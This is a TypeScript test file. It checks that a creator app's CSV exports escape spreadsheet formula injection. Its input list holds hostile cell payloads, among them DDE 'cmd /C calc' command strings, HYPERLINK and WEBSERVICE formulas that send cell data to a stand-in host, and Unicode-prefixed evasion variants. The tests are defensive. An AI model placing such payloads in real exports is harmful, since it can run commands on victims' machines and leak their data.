// Cells of every table that leaves Facet: none is run as a formula by a spreadsheet, and figures stay figures.
import fc from "fast-check";
import { expect, test } from "vitest";
import { ideasCsv } from "../../client/outputs/creator/idea-calendar.ts";
import { postCsv } from "../../client/outputs/creator/post-export.ts";
import { tableOf, toCsv } from "../../client/outputs/table.ts";
import { creatorEn } from "../../client/strings/creator.en.ts";
import { csvField } from "../../pipelines/engine/csv-field.ts";
import { cardsCsv } from "../../pipelines/engine/guide/review-cards.ts";
import { ideas, madePost } from "../support/made-posts.ts";

const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://canary.test/?x="&A1,"open")',
  '=WEBSERVICE("http://canary.test/"&A1)',
  '=IMPORTXML("http://canary.test","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  '="quoted"',
  "=1,2;3",
];

/** RFC 4180, read back as a spreadsheet does. */
function cellsOf(csv: string): readonly string[] {
  const cells = csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "");
}

/** What starts a formula somewhere, other than a plain number. */
const runs = (cell: string): boolean => {
  const begun = cell.replace(/^[\s\p{C}]+/u, "");
  return /^[=+\-@＝＋－＠]/u.test(begun) && !/^[+-]?[\d.,]+(?:e[+-]?\d+)?%?$/i.test(cell);
};

const exports: Readonly<Record<string, (text: string) => string>> = {
  "a table": (text) => toCsv(tableOf({ columns: [text, "b"], rows: [[text, { text }]] }) ?? { columns: [], rows: [] }),
  "cards to learn": (text) =>
    cardsCsv([{ front: text, back: text, tags: [text] }] as unknown as Parameters<typeof cardsCsv>[0]),
  ideas: (text) =>
    ideasCsv(
      ideas.map((idea) => ({ ...idea, title: text, hook: text })),
      "2026-05-01",
      creatorEn.ideas,
    ),
  "a post": (text) => {
    const post = madePost(["i"]);
    const versions = post.versions.map((version) => ({ ...version, title: text, text }));
    return postCsv(
      {
        post: { ...post, firstComment: { text, flags: [] } },
        captionId: undefined,
        versions,
        pictures: [text],
        number: 1,
      },
      creatorEn.exports,
    );
  },
};

test.each(Object.keys(exports).flatMap((name) => formulas.map((text) => [name, text] as const)))(
  "%s: %j is a text",
  (name, text) => {
    const cells = cellsOf(exports[name]?.(text) ?? "");
    expect(cells.filter(runs)).toEqual([]);
    // It is there to be read all the same.
    expect(cells.some((cell) => cell.includes(text.trim().slice(1, 4)))).toBe(true);
  },
);

test.each(["-3", "+4", "1e6", "-1.5e-9", "12,5", "-12.5%", "2026-05-01", "", "a=b", "x-y"])(
  "%j stays as it is",
  (text) => {
    expect(cellsOf(csvField(text))[0] ?? "").toBe(text);
  },
);

test("no text at all is run, and each is read back whole behind its sign", () => {
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: "grapheme" }),
        fc.tuple(fc.constantFrom(...formulas), fc.string()).map((parts) => parts.join("")),
      ),
      (text) => {
        const [cell = ""] = cellsOf(csvField(text));
        expect(runs(cell)).toBe(false);
        expect([text, `'${text}`]).toContain(cell);
      },
    ),
    { numRuns: 2000 },
  );
});
